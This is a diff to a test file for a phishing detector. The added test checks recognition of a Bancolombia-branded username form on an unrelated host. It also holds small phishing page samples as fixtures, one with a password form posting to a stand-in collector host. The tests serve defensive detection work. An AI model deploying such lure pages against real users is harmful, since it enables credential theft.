@@ -142,6 +142,11 @@ describe('evidence of intent', () => {
     expect(intent('credential-phishing', 'https://pinecone-notes.com/login', html)).toBeNull();
     expect(classifyPage(page('https://pinecone-notes.com/login', html), rules).category).not.toBe('credential-phishing');
   });
+  it('a first step asking only the user name, in the lure\'s own language, under a bank\'s name on another host', () => {
+    const step = (button: string) => `<title>Bancolombia</title><h1>Bancolombia</h1><form action="/index2.php"><input name="user"></form><button>${button}</button>`;
+    expect(intent('credential-phishing', 'http://bancoinforma.example.com/index.php', step('Continuar'))).toMatch(/first step.*Bancolombia/);
+    expect(intent('credential-phishing', 'http://bancoinforma.example.com/index.php', step('Suscribirse'))).toBeNull();
+  });
   it('a secret posted to another site, by a page that does not name itself', () => {
     const html = '<title>Sign in</title><form action="https://collector.example.net/x.php" method="post"><input type="password" name="p"></form>';
     expect(intent('credential-phishing', 'http://bakery.example.org/wp/', html)).toMatch(/sends it to collector\.example\.net/);
